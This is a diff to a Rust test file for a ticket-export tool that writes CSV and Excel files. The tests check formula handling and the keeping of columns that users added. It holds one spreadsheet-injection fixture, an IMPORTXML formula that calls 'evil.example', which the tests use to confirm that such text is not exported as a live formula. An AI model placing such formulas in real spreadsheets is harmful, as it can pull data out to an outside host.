@@ -30,7 +30,7 @@ const ACTIVE: [&str; 12] = [
     " =IMPORTXML(\"http://evil.example\",\"//a\")",
 ];
 
-fn ticket(number: usize, text: &str) -> CommonTicket {
+pub(super) fn ticket(number: usize, text: &str) -> CommonTicket {
     let named = |what: &str| {
         Some(Named {
             id: Some(format!("{what}-{number}")),
@@ -82,7 +82,7 @@ fn plan() -> Plan {
     Plan::by_default(SystemName::IncidentIq, &[field], &TimeZone::UTC)
 }
 
-fn options(path: &Path) -> Options {
+pub(super) fn options(path: &Path) -> Options {
     let format = match path.extension().and_then(|extension| extension.to_str()) {
         Some("xlsx") => Format::Xlsx,
         Some("jsonl") => Format::JsonLines,
@@ -159,6 +159,7 @@ fn expected(ticket: &CommonTicket, plan: &mut Plan) -> Vec<String> {
         | crate::export::columns::Cell::Link { text, .. } => text.to_string(),
         crate::export::columns::Cell::Number(number) => Cell::Number(*number).text().into_owned(),
         crate::export::columns::Cell::Truth(truth) => truth.to_string(),
+        crate::export::columns::Cell::Formatted(shown) => shown.text.clone(),
         crate::export::columns::Cell::Time(at) => Cell::DateTime(at.civil()).text().into_owned(),
     };
     cells.iter().map(text).collect()
@@ -221,9 +222,16 @@ fn no_text_runs_and_every_cell_is_read_back() {
         }
     }
     // In a workbook nothing but the links is a formula.
-    let columns: Vec<u32> = (1..plan().columns().len() as u32).collect();
-    assert!(!crate::source::has_formulas(&dir.path().join("t.xlsx"), "Tickets", &columns).unwrap());
-    assert!(crate::source::has_formulas(&dir.path().join("t.xlsx"), "Tickets", &[0]).unwrap());
+    let file = fs::File::open(dir.path().join("t.xlsx")).unwrap();
+    let mut formulas = std::collections::BTreeSet::new();
+    let mut note = |spot: crate::source::Spot, _: &Cell| {
+        if spot.is_formula {
+            formulas.insert(spot.column);
+        }
+        std::ops::ControlFlow::Continue(())
+    };
+    crate::source::each_cell(Box::new(file), "t.xlsx", "Tickets", &mut note).unwrap();
+    assert_eq!(formulas, [0].into());
     let comments = read(&dir.path().join("t.xlsx"));
     assert_eq!(comments[1].0, "Comments");
     assert_eq!(comments[1].1[1][6], ACTIVE[0]);
@@ -750,4 +758,156 @@ fn a_mapping_that_somebody_edited_steps_aside() {
         .map(|(_, text)| text)
         .collect();
     assert_eq!(texts, ["mine", "third"]);
+}
+
+#[test]
+fn what_a_csv_cannot_carry_keeps_it_from_being_replaced() {
+    let tickets = [ticket(1, "lamp"), ticket(2, "door")];
+    for (what, edit) in [("has cells", ",mine" as &str), ("quote", ",\"mi\"ne")] {
+        let folder = tempfile::tempdir().unwrap();
+        let path = folder.path().join("t.csv");
+        write(options(&path), &tickets);
+        let text = fs::read_to_string(&path).unwrap();
+        let edited = format!("{}{edit}\r\n", text.trim_end());
+        fs::write(&path, &edited).unwrap();
+        let written = write(options(&path), &tickets);
+        assert_eq!(
+            written.files[0],
+            folder.path().join("t-2.csv"),
+            "{what}: {:?}",
+            written.notes
+        );
+        assert_eq!(fs::read_to_string(&path).unwrap(), edited);
+    }
+    // A column of theirs with nothing but a heading, in a table without rows too; a row without a ticket.
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("t.csv");
+    write(options(&path), &[]);
+    let text = fs::read_to_string(&path).unwrap();
+    fs::write(&path, format!("{},Until\r\n", text.trim_end())).unwrap();
+    write(options(&path), &tickets);
+    let text = fs::read_to_string(&path).unwrap();
+    assert!(text.lines().next().unwrap().ends_with(",Until"), "{text}");
+    fs::write(&path, format!("{text},Call Ann\r\n")).unwrap();
+    let written = write(options(&path), &tickets);
+    assert_eq!(written.files[0], path, "{:?}", written.notes);
+    assert!(
+        fs::read_to_string(folder.path().join("t.earlier.csv"))
+            .unwrap()
+            .contains("Call Ann")
+    );
+    // A second column of one of our headings may be theirs.
+    let text = fs::read_to_string(&path).unwrap();
+    let doubled: String = text
+        .lines()
+        .map(|line| match line.strip_suffix(",Until") {
+            Some(_) => format!("{line},State\r\n"),
+            None => format!("{line},mine\r\n"),
+        })
+        .collect();
+    fs::write(&path, &doubled).unwrap();
+    let written = write(options(&path), &tickets);
+    assert_ne!(written.files[0], path);
+    assert!(
+        written
+            .notes
+            .iter()
+            .any(|note| note.contains("more than one column `State`")),
+        "{:?}",
+        written.notes
+    );
+}
+
+#[test]
+fn what_people_wrote_into_a_csv_of_comments_stays() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("t.csv");
+    let with_comments = || Options {
+        comments: true,
+        ..options(&path)
+    };
+    let tickets = [ticket(1, "lamp")];
+    write(with_comments(), &tickets);
+    write(with_comments(), &tickets);
+    let comments = folder.path().join("t.comments.csv");
+    let text = fs::read_to_string(&comments).unwrap();
+    assert!(!folder.path().join("t.comments-2.csv").exists());
+    let edited: String = text
+        .lines()
+        .enumerate()
+        .map(|(at, line)| match at {
+            0 => format!("{line},Answered\r\n"),
+            _ => format!("{line},yes\r\n"),
+        })
+        .collect();
+    fs::write(&comments, &edited).unwrap();
+    let written = write(with_comments(), &tickets);
+    assert_eq!(fs::read_to_string(&comments).unwrap(), edited);
+    assert!(
+        written
+            .files
+            .contains(&folder.path().join("t.comments-2.csv")),
+        "{written:?}"
+    );
+}
+
+#[test]
+fn notes_follow_a_ticket_to_its_part_and_an_empty_part_is_emptied() {
+    let folder = tempfile::tempdir().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let path = folder.path().join("t.csv");
+    let parted = || Options {
+        partition: Some(Partition::Location),
+        placing: Placing {
+            records: Records::of(state.path()),
+            ..Placing::default()
+        },
+        ..options(&path)
+    };
+    let at = |number: usize, place: &str| {
+        let mut ticket = ticket(number, "lamp");
+        ticket.place.as_mut().unwrap().name = Some(place.to_owned());
+        ticket
+    };
+    // A copy that people made of a part, and another export, are none of it.
+    let bystander = folder.path().join("t.copy.csv");
+    write(parted(), &[at(1, "A"), at(2, "A"), at(3, "B")]);
+    let part = |name: &str| folder.path().join(format!("t.{name}.csv"));
+    fs::copy(part("A"), &bystander).unwrap();
+    let noted: String = fs::read_to_string(part("A"))
+        .unwrap()
+        .lines()
+        .enumerate()
+        .map(|(row, line)| match row {
+            0 => format!("{line},Remark\r\n"),
+            row => format!("{line},call {row}\r\n"),
+        })
+        .collect();
+    fs::write(part("A"), noted).unwrap();
+    let copied = fs::read(&bystander).unwrap();
+    // One has moved, the other has left the selection.
+    let written = write(parted(), &[at(1, "B"), at(3, "B")]);
+    let tables = read(&part("B"));
+    assert_eq!(column(&tables[0].1, "Remark"), ["call 1", ""]);
+    let text = fs::read_to_string(part("A")).unwrap();
+    assert_eq!(text.lines().count(), 1, "{text}");
+    assert!(
+        fs::read_to_string(part("A.earlier"))
+            .unwrap()
+            .contains("call 2")
+    );
+    assert!(
+        written
+            .notes
+            .iter()
+            .any(|note| note.contains("no ticket belongs into")),
+        "{:?}",
+        written.notes
+    );
+    assert_eq!(fs::read(&bystander).unwrap(), copied);
+    // It comes back, into a third part.
+    write(parted(), &[at(1, "B"), at(2, "C")]);
+    assert_eq!(column(&read(&part("C"))[0].1, "Remark"), ["call 2"]);
+    assert_eq!(column(&read(&part("B"))[0].1, "Remark"), ["call 1"]);
+    assert!(!part("A.earlier").exists());
 }
